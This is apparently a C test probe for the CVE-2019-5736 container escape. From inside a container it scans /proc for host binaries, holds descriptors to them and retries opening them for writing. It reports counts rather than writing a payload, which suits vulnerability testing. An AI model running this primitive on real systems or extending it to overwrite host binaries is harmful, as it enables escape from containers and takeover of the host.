/* SPDX-License-Identifier: Apache-2.0 */
/*
 * CVE-2019-5736 against a runtime that needs no loader. Runs in the container and looks, again and
 * again, for processes whose program is none of the container's: /proc/PID/exe is then a file of
 * the host. One that can be opened is kept and, when nobody executes it any more, opened for
 * writing.
 *
 *   scan_exe MILLISECONDS [FIFO]
 *
 * FIFO: opened for reading when a file was caught, which lets go whoever waits for it. At the end,
 * one more line: "caught N denied N written N". `denied` are processes that were there and would
 * not let themselves be looked into: without any, the attack never met the runtime.
 */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static long now_ms(void)
{
    struct timespec t;

    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec * 1000 + t.tv_nsec / 1000000;
}

/* Until nobody executes it: ETXTBSY says no more than that it is being executed. */
static int write_to(int fd, long until_ms)
{
    char path[64];
    int writer;

    snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
    do {
        writer = open(path, O_WRONLY | O_CLOEXEC);
        if (writer < 0 && errno == ETXTBSY)
            usleep(5000);
    } while (writer < 0 && errno == ETXTBSY && now_ms() < until_ms);
    if (writer < 0)
        printf("write: %s\n", strerror(errno));
    return writer >= 0;
}

int main(int argc, char **argv)
{
    long until_ms = now_ms() + (argc > 1 ? atol(argv[1]) : 1000);
    int caught = 0, denied = 0, written = 0;

    while (now_ms() < until_ms) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;

        while (proc && (entry = readdir(proc))) {
            char path[300], link[300] = "";
            int fd;

            if (entry->d_name[0] < '1' || entry->d_name[0] > '9')
                continue;
            snprintf(path, sizeof(path), "/proc/%s/exe", entry->d_name);
            fd = open(path, O_RDONLY | O_CLOEXEC);
            if (fd < 0) {
                denied += errno == EACCES || errno == EPERM;
                continue;
            }
            /* Of what was opened: the process may be another program by now. */
            snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
            if (readlink(path, link, sizeof(link) - 1) <= 0 || strncmp(link, "/bin/", 5) == 0) {
                close(fd);
                continue;
            }
            caught++;
            if (argc > 2)
                (void)!open(argv[2], O_RDONLY | O_NONBLOCK | O_CLOEXEC);
            written += write_to(fd, now_ms() + 4000);
            close(fd);
        }
        if (proc)
            closedir(proc);
    }
    printf("caught %d denied %d written %d\n", caught, denied, written);
    return 0;
}
